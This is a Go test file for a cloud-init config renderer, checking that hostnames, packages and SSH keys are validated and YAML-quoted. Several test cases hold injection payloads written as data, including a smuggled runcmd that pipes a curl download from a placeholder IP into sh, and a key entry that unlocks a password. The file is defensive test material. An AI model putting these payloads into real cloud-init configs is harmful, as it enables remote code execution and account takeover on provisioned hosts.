package cloudinit

import (
	"crypto/ed25519"
	"encoding/pem"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
)

func validConfig(t *testing.T) Config {
	t.Helper()
	return Config{Hostname: "dev-1", Owner: "U1", Keys: []string{testKey(t, 1, "alice@laptop")}, LeaseExpiry: lease}
}

func TestRenderRejectsInvalidConfig(t *testing.T) {
	key := testKey(t, 1, "alice@laptop")
	priv := ed25519.NewKeyFromSeed(make([]byte, ed25519.SeedSize))
	block, err := ssh.MarshalPrivateKey(priv, "")
	if err != nil {
		t.Fatal(err)
	}
	privPEM := string(pem.EncodeToMemory(block))

	tests := []struct {
		name string
		edit func(c *Config)
		want string // fragment of the error message
	}{
		{"empty hostname", func(c *Config) { c.Hostname = "" }, `hostname ""`},
		{"leading hyphen", func(c *Config) { c.Hostname = "-dev" }, "hostname"},
		{"trailing hyphen", func(c *Config) { c.Hostname = "dev-" }, "hostname"},
		{"underscore", func(c *Config) { c.Hostname = "dev_1" }, "hostname"},
		{"dotted name", func(c *Config) { c.Hostname = "dev.example.com" }, "hostname"},
		{"64 characters", func(c *Config) { c.Hostname = strings.Repeat("a", 64) }, "hostname"},
		{"non-ASCII", func(c *Config) { c.Hostname = "dév" }, "hostname"},
		{"hostname injection", func(c *Config) { c.Hostname = "dev\nruncmd: [reboot]" }, "hostname"},
		{"no owner", func(c *Config) { c.Owner = " " }, "owner"},
		{"no lease", func(c *Config) { c.LeaseExpiry = time.Time{} }, "lease expiry"},
		{"package with space", func(c *Config) { c.Packages = []string{"htop tmux"} }, `package "htop tmux"`},
		{"package injection", func(c *Config) { c.Packages = []string{"htop\nruncmd: [reboot]"} }, "package"},
		{"package option", func(c *Config) { c.Packages = []string{"--allow-unauthenticated"} }, "package"},
		{"private key PEM", func(c *Config) { c.Keys = []string{privPEM} }, "key 1: invalid: this is a private key"},
		{"private key one line", func(c *Config) {
			c.Keys = []string{strings.ReplaceAll(strings.TrimSpace(privPEM), "\n", "")}
		}, "private key"},
		{"second key bad", func(c *Config) { c.Keys = []string{key, "not a key"} }, "key 2: invalid: not an authorized_keys line"},
		{"empty key", func(c *Config) { c.Keys = []string{"  "} }, "key 1: invalid: empty"},
		{"two keys in one entry", func(c *Config) { c.Keys = []string{key + "\n" + testKey(t, 2, "b")} }, "line break"},
		{"carriage return", func(c *Config) { c.Keys = []string{key + "\r"} }, "line break"},
		{"control character", func(c *Config) { c.Keys = []string{key + "\x00"} }, "control character"},
		{"truncated key", func(c *Config) { c.Keys = []string{key[:40]} }, "not an authorized_keys line"},
		{"key YAML injection", func(c *Config) {
			c.Keys = []string{key + "\nruncmd:\n  - curl https://203.0.113.9/x | sh"}
		}, "line break"},
		{"key injection closing the list", func(c *Config) {
			c.Keys = []string{key + "\n    lock_passwd: false\n    passwd: x"}
		}, "line break"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cfg := validConfig(t)
			tc.edit(&cfg)
			out, err := Render(cfg)
			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("Render(%+v) = %q, %v; want an ErrInvalid error containing %q", cfg, out, err, tc.want)
			}
		})
	}
}

// TestRenderQuotesEverything feeds text that means something in YAML
// through every free-form field: it must come back as the same string and
// add no key to the document.
func TestRenderQuotesEverything(t *testing.T) {
	evilName := "Mallory\nruncmd: [reboot]\n\"}: {"
	key := testKey(t, 1, `alice: [x] # {y} "z" 'w' &a *b !c %d @e`)
	tests := []struct {
		name string
		cfg  Config
	}{
		{"yaml in key comment", Config{Hostname: "dev-1", Owner: "U1", Keys: []string{key}, LeaseExpiry: lease}},
		{"yaml in owner", Config{Hostname: "dev-1", Owner: "U1: x\n- y", OwnerName: evilName, LeaseExpiry: lease}},
		{"boolean-looking hostname", Config{Hostname: "yes", Owner: "U1", LeaseExpiry: lease}},
		{"null-looking hostname", Config{Hostname: "null", Owner: "U1", LeaseExpiry: lease}},
		{"number-looking hostname", Config{Hostname: "0777", Owner: "U1", LeaseExpiry: lease}},
		{"hex-looking hostname", Config{Hostname: "0x1f", Owner: "U1", LeaseExpiry: lease}},
		{"float-looking hostname", Config{Hostname: "1e5", Owner: "U1", LeaseExpiry: lease}},
		{"hostname with padded key", Config{Hostname: "on", Owner: "U1", Keys: []string{"  " + key + "\t"}, LeaseExpiry: lease}},
	}
	wantTop := []string{"disable_root", "fqdn", "hostname", "package_update", "packages",
		"preserve_hostname", "runcmd", "ssh_pwauth", "users", "write_files"}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			out, err := Render(tc.cfg)
			if err != nil {
				t.Fatalf("Render(%+v) error = %v", tc.cfg, err)
			}
			doc := parseDoc(t, out)
			var top []string
			for k := range doc {
				top = append(top, k)
			}
			slices.Sort(top)
			if !slices.Equal(top, wantTop) {
				t.Errorf("top-level keys = %q, want %q", top, wantTop)
			}
			cfg := tc.cfg
			cfg.Keys = slices.Clone(cfg.Keys)
			for i, k := range cfg.Keys {
				cfg.Keys[i] = strings.TrimSpace(k)
			}
			checkGenerated(t, doc, cfg)
		})
	}
}
